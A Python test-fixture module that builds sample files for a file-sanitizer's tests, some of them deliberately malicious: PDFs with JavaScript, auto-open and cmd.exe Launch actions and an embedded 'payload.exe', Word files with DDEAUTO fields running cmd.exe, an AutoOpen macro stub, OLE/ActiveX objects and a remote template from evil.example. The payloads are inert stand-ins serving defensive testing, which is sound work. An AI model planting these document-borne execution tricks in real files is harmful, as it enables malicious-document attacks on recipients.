"""Build benign and malicious sample files in memory for the file sanitizer tests."""

from __future__ import annotations

import io
import zipfile

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

CT = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def text_pdf(pages: int = 1, text: str = "Hello Mamori", *, with_link: bool = False) -> pikepdf.Pdf:
    """Return a PDF whose pages show one line of text each (Helvetica)."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(pages):
        lines = [
            f"BT /F1 11 Tf 56 {790 - 14 * i} Td ({text} page {number + 1} line {i + 1}) Tj ET"
            for i in range(50)
        ]
        page = pikepdf.Page(
            Dictionary(
                Type=Name.Page,
                MediaBox=Array([0, 0, 595, 842]),
                Contents=pdf.make_stream("\n".join(lines).encode()),
                Resources=Dictionary(Font=Dictionary(F1=font)),
            )
        )
        if with_link:
            link = Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([50, 50, 200, 70]),
                A=Dictionary(S=Name.URI, URI=String("https://evil.example/")),
            )
            page.obj["/Annots"] = Array([pdf.make_indirect(link)])
        pdf.pages.append(page)
    return pdf


def save(pdf: pikepdf.Pdf, **kwargs: object) -> bytes:
    """Serialise a pikepdf document."""
    out = io.BytesIO()
    pdf.save(out, **kwargs)  # type: ignore[arg-type]
    return out.getvalue()


def malicious_pdf() -> bytes:
    """Return a PDF with JavaScript, OpenAction, page AA, Launch, an embedded file, RichMedia and XFA."""
    pdf = text_pdf(2, "Malicious")
    js = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('pwned')")))
    pdf.Root.OpenAction = js
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), js])),
        EmbeddedFiles=Dictionary(
            Names=Array(
                [
                    String("payload.exe"),
                    Dictionary(
                        Type=Name.Filespec,
                        F=String("payload.exe"),
                        EF=Dictionary(F=pdf.make_stream(b"MZ\x90\x00 evil payload", Type=Name.EmbeddedFile)),
                    ),
                ]
            )
        ),
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    first = pdf.pages[0].obj
    first["/AA"] = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("this.exportDataObject()")))
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))
    first["/Annots"] = Array(
        [
            pdf.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 10, 10]), A=launch)
            ),
            pdf.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 10, 10]))
            ),
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.FileAttachment,
                    Rect=Array([0, 0, 10, 10]),
                    FS=Dictionary(Type=Name.Filespec, F=String("a.js")),
                )
            ),
        ]
    )
    return save(pdf)


def _content_types(main: str, extra: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="{CT}">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>'
    )


def _rels(items: str) -> str:
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    return f'{head}<Relationships xmlns="{RELS}">{items}</Relationships>'


ROOT_RELS = _rels(
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/>'
)


def docx(body: str, *, main: str = DOCX_MAIN, extra_parts: dict[str, bytes] | None = None,
         extra_types: str = "", document_rels: str = "") -> bytes:  # fmt: skip
    """Return a minimal WordprocessingML package with the given body XML."""
    document = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="{W}" xmlns:r="{R}" '
        'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml">'
        f"<w:body>{body}</w:body></w:document>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _content_types(main, extra_types))
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("word/document.xml", document)
        archive.writestr("word/_rels/document.xml.rels", _rels(document_rels))
        for name, data in (extra_parts or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def paragraph(text: str) -> str:
    """Return one paragraph of WordprocessingML."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docm_with_macro(text: str = "請求書を確認してください") -> bytes:
    """Return a .docm with a vbaProject.bin part (OLE magic plus an AutoOpen-looking payload)."""
    return docx(
        paragraph(text),
        main=DOCM_MAIN,
        extra_parts={
            "word/vbaProject.bin": OLE_MAGIC + b"\x00" * 504 + b"Attribute VB_Name AutoOpen Shell cmd.exe",
            "word/_rels/vbaProject.bin.rels": _rels("").encode(),
        },
        extra_types='<Override PartName="/word/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/>',
        document_rels='<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/>',
    )


def docx_with_dde() -> bytes:
    """Return a .docx with a complex DDEAUTO field (split over runs) and a simple DDE field."""
    complex_field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k calc.exe"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>結果</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    simple_field = (
        '<w:p><w:fldSimple w:instr=" DDE cmd.exe &quot;/c calc&quot;">'
        "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
    )
    return docx(paragraph("動的交換を含む文書") + complex_field + simple_field)


def docx_with_remote_template() -> bytes:
    """Return a .docx whose settings part attaches a template from a remote URL."""
    settings = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="{W}" xmlns:r="{R}">'
        '<w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    return docx(
        paragraph("外部テンプレート"),
        extra_parts={
            "word/settings.xml": settings.encode(),
            "word/_rels/settings.xml.rels": _rels(
                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
            ).encode(),
        },
        extra_types='<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.settings+xml"/>',
        document_rels='<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/settings" Target="settings.xml"/>',
    )


def docx_with_ole_object() -> bytes:
    """Return a .docx with an embedded OLE object and an ActiveX control referenced from the body."""
    body = (
        paragraph("埋め込みオブジェクト")
        + '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId5"/>'
        + "</w:object></w:r></w:p>"
        + '<w:p><w:r><w:object><w:control r:id="rId6" w:name="CommandButton1"/></w:object></w:r></w:p>'
    )
    return docx(
        body,
        extra_parts={
            "word/embeddings/oleObject1.bin": OLE_MAGIC + b"\x00" * 100 + b"Ole10Native payload.exe",
            "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
        },
        extra_types='<Default Extension="bin" '
        'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
        '<Override PartName="/word/activeX/activeX1.xml" '
        'ContentType="application/vnd.ms-office.activeX+xml"/>',
        document_rels='<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/oleObject" Target="embeddings/oleObject1.bin"/>'
        '<Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'control" Target="activeX/activeX1.xml"/>',
    )


def jpeg(size: tuple[int, int] = (64, 48), *, exif: bool = False) -> bytes:
    """Return a JPEG image (optionally with an EXIF block holding a GPS-like comment)."""
    image = Image.new("RGB", size, (200, 30, 30))
    out = io.BytesIO()
    if exif:
        data = Image.Exif()
        data[0x010E] = "secret location 35.68N 139.76E"
        image.save(out, "JPEG", exif=data.tobytes())
    else:
        image.save(out, "JPEG")
    return out.getvalue()


def png(size: tuple[int, int] = (40, 30)) -> bytes:
    """Return a PNG image."""
    out = io.BytesIO()
    Image.new("RGBA", size, (0, 128, 255, 200)).save(out, "PNG")
    return out.getvalue()


def zip_of(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a zip archive holding the members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def encrypted_zip() -> bytes:
    """Return a zip whose member has the "encrypted" general purpose flag set (PPAP style)."""
    data = bytearray(zip_of({"請求書.docx": b"x" * 100}, compression=zipfile.ZIP_STORED))
    # Set bit 0 of the general purpose flag in the local header (offset 6) and central directory (offset 8).
    data[6] |= 0x01
    central = data.find(b"PK\x01\x02")
    data[central + 8] |= 0x01
    return bytes(data)


def nested_zip(depth: int) -> bytes:
    """Return zips nested ``depth`` levels deep around a text file."""
    data = zip_of({"note.txt": b"innermost"})
    for level in range(depth - 1):
        data = zip_of({f"level{level}.zip": data})
    return data
